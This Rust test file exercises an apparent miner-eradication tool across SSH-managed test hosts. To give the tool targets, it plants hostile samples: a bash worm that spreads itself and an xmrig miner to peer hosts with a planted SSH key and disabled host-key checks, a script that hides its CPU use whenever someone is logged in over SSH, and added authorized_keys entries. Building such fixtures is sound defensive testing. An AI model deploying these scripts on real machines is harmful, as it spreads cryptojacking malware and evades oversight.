//! Hosts over SSH from a host of its own: planned by one command, approved once, eradicated, and told truly when a cable
//! is pulled.

use serde_json::Value;

use crate::common::machine::wait_until;
use crate::infected::case::{Case, Moments};
use crate::infected::look_alike::LookAlike;
use crate::infected::{cron, processes, units};
use crate::site::{LONG, Site, left_of_us, status, worker_ends};
use crate::world::World;
use crate::world::host::Host;

#[test]
fn three_hosts_are_planned_approved_and_eradicated_at_once() {
    let Some(world) = World::new("fleet") else { return };
    let _pool = world.pool();
    let site = Site::open(&world, &["web-1", "web-2", "web-3"]);
    let [one, two, three] = &site.hosts[..] else {
        panic!("three hosts")
    };
    let innocent: [Vec<LookAlike>; 3] = [
        processes::look_alikes(one),
        cron::look_alikes(two),
        units::look_alikes(three),
    ];
    let cases: [Case; 3] = [processes::plain(one), cron::crontabs(two), units::service(three)];
    for ((host, case), innocent) in site.hosts.iter().zip(&cases).zip(&innocent) {
        host.wait("all that was planted", || {
            case.missing(host).is_empty() && innocent.iter().all(|innocent| innocent.missing(host).is_none())
        });
    }
    let before: Vec<Vec<_>> = site
        .hosts
        .iter()
        .zip(&innocent)
        .map(|(host, innocent)| innocent.iter().map(|innocent| innocent.state(host)).collect())
        .collect();

    let deminer = site.control.deminer();
    let (hash, plan) = site.plan(&deminer);
    assert_eq!(plan["not_planned"], serde_json::json!([]), "{plan:#}");
    let words = ["run", "--approve", &hash, "--watch", "65s", "--format", "json"];
    let answer = deminer.start(&words).answer_within(LONG);
    let report = answer.expect(0).json();
    for host in &site.hosts {
        assert_eq!(*status(&report, &host.address), "eradicated", "{report:#}");
    }
    for told in report["hosts"].as_array().expect("a list") {
        assert_eq!(told["verify"]["away_ms"], 6_500, "left alone for a tenth of the watch");
    }
    for (host, case) in site.hosts.iter().zip(&cases) {
        assert_eq!(case.left(host, Moments::NEVER), Vec::<String>::new());
        assert_eq!(left_of_us(host), Vec::<String>::new(), "`{}`", host.name);
    }
    for ((host, innocent), before) in site.hosts.iter().zip(&innocent).zip(&before) {
        let now: Vec<_> = innocent.iter().map(|innocent| innocent.state(host)).collect();
        assert_eq!(now, *before, "`{}`", host.name);
    }
}

#[test]
fn nothing_is_contained_behind_which_nobody_gets_in() {
    let Some(world) = World::new("locked-out") else { return };
    let _pool = world.pool();
    let site = Site::open(&world, &["web-1"]);
    let host = &site.hosts[0];
    let case = processes::plain(host);
    host.wait("the miner", || case.missing(host).is_empty());
    let deminer = site.control.deminer();
    let (hash, plan) = site.plan(&deminer);
    let blocks = |action: &Value| action["kind"] == "block_address";
    assert!(
        plan["actions"].as_array().expect("a list").iter().any(blocks),
        "{plan:#}"
    );
    // One more login gets in, and none after it: as if the block had shut the others out.
    host.sh("nft 'table inet door { chain in { type filter hook input priority 0; \
             tcp dport 22 ct state new limit rate 1/day burst 1 packets accept; tcp dport 22 ct state new drop; }; }'");
    let words = ["run", "--approve", &hash, "--watch", "3s", "--format", "json"];
    let answer = deminer.start(&words).answer_within(LONG);
    let report = answer.json();
    assert_eq!(*status(&report, &host.address), "failed", "{report:#}");
    assert!(
        report.to_string().contains("no new login gets in behind it"),
        "{report:#}"
    );
    assert!(case.missing(host).is_empty(), "nothing was struck");
    let held = host.run(["nft", "list", "table", "inet", "deminer"]);
    assert!(!held.out.contains("elements"), "nothing stays blocked: {}", held.out);
    host.sh("nft delete table inet door");
    worker_ends(host);
    assert_eq!(left_of_us(host), Vec::<String>::new());
}

/// Works, for five minutes at most, only while no login over SSH stands: no connection to port 22 (0x16) is established
/// (0x01).
///
/// It is told by the share of a CPU that it uses itself, so all of its work is the shell's own, and a group of processes of
/// its own gets more of a busy machine than another (sched(7), autogroup).
const SHY: &str = "\
#!/bin/bash
echo -10 > /proc/self/autogroup
stands() {
    local own peer state
    while read -r _ own peer state _; do
        case $own/$state in *:0016/01) return 0 ;; esac
    done < /proc/net/tcp
    return 1
}
while [ $SECONDS -lt 300 ]; do
    if stands; then sleep 0.2; else for ((i = 0; i < 20000; i++)); do :; done; fi
done
";

#[test]
fn what_rests_while_somebody_is_logged_in_is_told() {
    let Some(world) = World::new("shy") else { return };
    let _pool = world.pool();
    let site = Site::open(&world, &["web-1"]);
    let host = &site.hosts[0];
    let case = processes::plain(host);
    host.wait("the miner", || case.missing(host).is_empty());
    host.write("/opt/shop/shy", SHY, 0o755);
    let deminer = site.control.deminer();
    let (hash, _) = site.plan(&deminer);
    host.sh("systemd-run --quiet --unit shy /opt/shop/shy");
    let words = ["run", "--approve", &hash, "--watch", "40s", "--format", "json"];
    let report = deminer.start(&words).answer_within(LONG).expect(5).json();
    assert_eq!(*status(&report, &host.address), "cannot_say", "{report:#}");
    let verify = &report["hosts"][0]["verify"];
    let told = verify["findings"].as_array().expect("a list").iter();
    let awake: Vec<&Value> = told.filter(|finding| finding["signal"] == "awake_alone").collect();
    assert_eq!(awake.len(), 1, "{verify:#}");
    assert_eq!(awake[0]["fields"]["comm"], "shy");
    assert_eq!(
        case.left(host, Moments::NEVER),
        Vec::<String>::new(),
        "the miner is gone"
    );
}

/// Whether the newest run's journal of a host has an event of this kind; `what` stands in the line.
fn told(control: &Host<'_>, what: &str) -> bool {
    let find = format!("cat /run/deminer-test/runs/2*/journal/host-*.ndjson 2>/dev/null | grep -c '{what}' || true");
    control.sh(&find).trim() != "0"
}

#[test]
fn a_link_that_is_cut_after_the_commit_is_told_truly() {
    let Some(world) = World::new("cut-late") else { return };
    let _pool = world.pool();
    let site = Site::open(&world, &["web-1"]);
    let host = &site.hosts[0];
    let case = cron::crontabs(host);
    host.wait("the miner", || case.missing(host).is_empty());
    let deminer = site.control.deminer();
    let (hash, _) = site.plan(&deminer);
    let applying = deminer.start(&["run", "--approve", &hash, "--watch", "65s", "--format", "json"]);
    assert!(wait_until(LONG, || told(&site.control, "\"kind\":\"committed\"")));
    host.sh("ip link set eth0 down");
    // The host needs nobody: it ends what was begun, and keeps its journal for the next contact.
    host.wait("the end of the stroke", || {
        case.programs.iter().all(|exe| host.running(exe).is_empty())
    });
    let answer = applying.answer_within(LONG);
    assert_ne!(answer.code, Some(0), "a lost host is no success: {answer}");
    worker_ends(host);
    host.sh("ip link set eth0 up");
    let report = deminer
        .start(&["report", "--format", "json"])
        .answer_within(LONG)
        .json();
    let told = &report["hosts"][0];
    let changes = told["changes"].as_array().expect("a list");
    let open: Vec<&Value> = changes
        .iter()
        .filter(|change| change["state"]["state"] != "done")
        .collect();
    assert_eq!(open, Vec::<&Value>::new(), "all that was done is known: {report:#}");
    assert_eq!(told["next"], "watch", "{report:#}");
    let words = ["resume", "--watch", "3s", "--format", "json"];
    let report = deminer.start(&words).answer_within(LONG).expect(0).json();
    assert_eq!(*status(&report, &host.address), "eradicated", "{report:#}");
    assert_eq!(case.left(host, Moments::NEVER), Vec::<String>::new());
    assert_eq!(left_of_us(host), Vec::<String>::new());
}

#[test]
fn a_link_that_is_cut_before_the_commit_changes_nothing() {
    let Some(world) = World::new("cut-early") else { return };
    let _pool = world.pool();
    let site = Site::open(&world, &["web-1"]);
    let host = &site.hosts[0];
    let case = processes::plain(host);
    host.wait("the miner", || case.missing(host).is_empty());
    let deminer = site.control.deminer();
    let (hash, _) = site.plan(&deminer);
    // So little goes through from here on that the evidence takes minutes.
    host.sh("tc qdisc add dev eth0 root tbf rate 400kbit burst 16kb latency 500ms");
    let applying = deminer.start(&["run", "--approve", &hash, "--watch", "65s", "--format", "json"]);
    assert!(wait_until(LONG, || told(&site.control, "\"kind\":\"told\"")));
    host.sh("ip link set eth0 down");
    assert!(!told(&site.control, "\"kind\":\"committed\""), "it was cut before");
    let answer = applying.answer_within(LONG);
    assert_ne!(answer.code, Some(0), "{answer}");
    worker_ends(host);
    assert!(case.missing(host).is_empty(), "the miner runs as before");
    assert!(host.has("/tmp/xmrig"));
    assert_eq!(left_of_us(host), Vec::<String>::new());
    host.sh("tc qdisc del dev eth0 root; ip link set eth0 up");
    let report = deminer
        .start(&["report", "--format", "json"])
        .answer_within(LONG)
        .json();
    let changes = report["hosts"][0]["changes"].as_array().expect("a list");
    assert!(
        changes.iter().all(|change| change["state"]["state"] != "done"),
        "{report:#}"
    );
}

#[test]
fn an_inventory_of_ansible_and_an_ssh_config_lead_through_a_jump_host() {
    let Some(world) = World::new("jump") else { return };
    let site = Site::open(&world, &["jump", "web-1", "web-2"]);
    let [jump, one, two] = &site.hosts[..] else {
        panic!("three hosts")
    };
    // Only the jump host gets through, and only to another port than the usual one.
    for host in [one, two] {
        host.write("/etc/ssh/sshd_config.d/port.conf", "Port 2222\n", 0o644);
        host.sh("systemctl restart ssh");
        host.sh(&format!(
            "nft add table inet gate; nft add chain inet gate in '{{ type filter hook input priority 0; }}'; \
             nft add rule inet gate in ip saddr {} drop",
            site.control.address
        ));
    }
    let known = site.control.text("/root/.ssh/known_hosts");
    let other_port: String = known
        .lines()
        .map(|line| line.split_once(' ').expect("a host and its key"))
        .map(|(host, key)| format!("[{host}]:2222 {key}\n"))
        .collect();
    site.control.write("/root/.ssh/known_hosts", known + &other_port, 0o600);
    let inventory = format!(
        "[web]\nweb-[1:2]\n[web:vars]\nansible_user=root\nansible_port=2222\nsample=1s\n\
         ansible_ssh_common_args='-o ProxyJump=root@{}'\n[prod:children]\nweb\n",
        jump.address
    );
    site.control.write("/root/site/hosts", inventory, 0o644);
    for host in [one, two] {
        let vars = format!("ansible_host: {}\n", host.address);
        site.control
            .write(&format!("/root/site/host_vars/{}.yml", host.name), vars, 0o644);
    }
    let deminer = site.control.deminer();
    let words = ["plan", "triage", "prod", "-i", "/root/site/hosts", "--format", "json"];
    let plan = deminer.start(&words).answer_within(LONG).expect(0).json();
    let names: Vec<&Value> = plan["hosts"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|host| &host["host"])
        .collect();
    assert_eq!(names, ["web-1", "web-2"], "{plan:#}");

    let config = |host: &Host<'_>| {
        format!(
            "Host target\n  HostName {}\n  User root\n  Port 2222\n  ProxyJump root@{}\n",
            host.address, jump.address
        )
    };
    site.control.write("/root/one.conf", config(one), 0o600);
    let playbook = "\
playbook: remove
version: 1
phases:
  gather:
    - {id: facts, use: host.facts}
    - {id: processes, use: process.list, with: {sample: 1s}}
    - {id: sockets, use: net.sockets}
  decide:
    - id: verdict
      use: miner.judge
      with: {processes: '{{ steps.processes.rows }}', sockets: '{{ steps.sockets.rows }}', boot_id: '{{ steps.facts.facts.identity.boot_id }}', rules: rules.yml}
  locate:
    - {id: trace, use: miner.trace, with: {verdict: '{{ steps.verdict }}', sockets: '{{ steps.sockets.rows }}'}}
  eradicate:
    - {id: kill, use: process.kill, with: {processes: '{{ steps.trace.processes }}'}}
";
    let rules = include_str!("../../playbooks/rules/linux.yml");
    site.control.write("/root/remove.yml", playbook, 0o644);
    site.control.write("/root/rules.yml", rules, 0o644);
    let cases = [one, two].map(processes::plain);
    for (host, case) in [one, two].into_iter().zip(&cases) {
        host.wait("the miner", || case.missing(host).is_empty());
    }
    let words = [
        "plan",
        "/root/remove.yml",
        "ssh://target",
        "--ssh-config",
        "/root/one.conf",
        "--format",
        "json",
    ];
    let plan = deminer.start(&words).answer_within(LONG).expect(0).json();
    let hash = &plan["hash"].as_str().expect("a hash")[..16];
    // The name leads to another machine by now: it is not the one that was planned, whatever runs on it.
    site.control.write("/root/one.conf", config(two), 0o600);
    let apply = ["apply", hash, "--approve", hash, "--format", "json"];
    let answer = deminer.start(&apply).answer_within(LONG);
    assert_ne!(answer.code, Some(0), "{answer}");
    assert!(cases[1].missing(two).is_empty(), "{answer}");
    assert!(answer.err.contains("another"), "{answer}");
    site.control.write("/root/one.conf", config(one), 0o600);
    let report = deminer.start(&apply).answer_within(LONG).json();
    assert!(
        cases[0].programs.iter().all(|exe| one.running(exe).is_empty()),
        "{report:#}"
    );
    for host in [one, two] {
        assert_eq!(left_of_us(host), Vec::<String>::new());
    }
}

/// Guards the miner, and writes itself and the miner to the other hosts every five seconds, for ten minutes.
fn worm(host: &Host<'_>, others: &[&Host<'_>]) -> String {
    let others: Vec<&str> = others.iter().map(|other| &*other.address).collect();
    format!(
        "#!/bin/bash
while [ $SECONDS -lt 600 ]; do
    pgrep -x xmrig >/dev/null || setsid -f /root/.w/xmrig {words} >/dev/null 2>&1 </dev/null
    for host in {others}; do
        for file in spread-$host xmrig; do
            [ -e /root/.w/$file ] || continue
            ssh -i /root/.w/key -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 root@$host \\
                \"mkdir -p /root/.w; cat > /root/.w/.new-$file; chmod 755 /root/.w/.new-$file; mv -f /root/.w/.new-$file /root/.w/$file\" \\
                < /root/.w/$file
        done
        ssh -i /root/.w/key -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 root@$host \\
            'pgrep -x xmrig || setsid -f /root/.w/xmrig {words} >/dev/null 2>&1 </dev/null
             pgrep -f /root/.w/spread-{own} || setsid -f /root/.w/spread-$(hostname -I | tr -d \" \\n\") >/dev/null 2>&1 </dev/null'
    done >/dev/null 2>&1
    sleep 5
done
",
        others = others.join(" "),
        words = processes::WORDS,
        own = host.address.split('.').next().expect("a part"),
    )
}

#[test]
fn a_worm_is_gone_from_all_hosts_at_the_end_of_one_run() {
    let Some(world) = World::new("worm") else { return };
    let _pool = world.pool();
    let site = Site::open(&world, &["web-1", "web-2", "web-3"]);
    let miner = processes::mining().program();
    site.control.sh("ssh-keygen -q -t ed25519 -N '' -f /root/worm");
    let (key, public) = (site.control.text("/root/worm"), site.control.text("/root/worm.pub"));
    let scripts: Vec<(String, String)> = site
        .hosts
        .iter()
        .map(|host| {
            let others: Vec<&Host<'_>> = site.hosts.iter().filter(|other| other.name != host.name).collect();
            (format!("/root/.w/spread-{}", host.address), worm(host, &others))
        })
        .collect();
    for (host, (own, _)) in site.hosts.iter().zip(&scripts) {
        let keys = host.text("/root/.ssh/authorized_keys");
        host.write("/root/.ssh/authorized_keys", keys + &public, 0o600);
        host.write("/root/.w/key", &key, 0o600);
        host.write("/root/.w/xmrig", &miner, 0o755);
        for (path, script) in &scripts {
            host.write(path, script, 0o755);
        }
        processes::start(host, &format!("/root/.w/xmrig {}", processes::WORDS));
        processes::start(host, own);
    }
    for host in &site.hosts {
        host.wait("the miner", || !host.running("/root/.w/xmrig").is_empty());
    }
    let deminer = site.control.deminer();
    let (hash, plan) = site.plan(&deminer);
    let words = [
        "run",
        "--approve",
        &hash,
        "--together",
        "--watch",
        "65s",
        "--format",
        "json",
    ];
    let answer = deminer.start(&words).answer_within(LONG + LONG);
    let report = answer.json();
    for host in &site.hosts {
        let left: Vec<String> = ["/root/.w/xmrig"]
            .into_iter()
            .filter(|path| host.has(path))
            .map(str::to_owned)
            .collect();
        assert_eq!(left, Vec::<String>::new(), "`{}`: {report:#}\n{plan:#}", host.name);
        assert!(host.running("/root/.w/xmrig").is_empty(), "`{}`", host.name);
        assert_eq!(left_of_us(host), Vec::<String>::new());
        assert_eq!(*status(&report, &host.address), "eradicated", "{report:#}");
    }
}
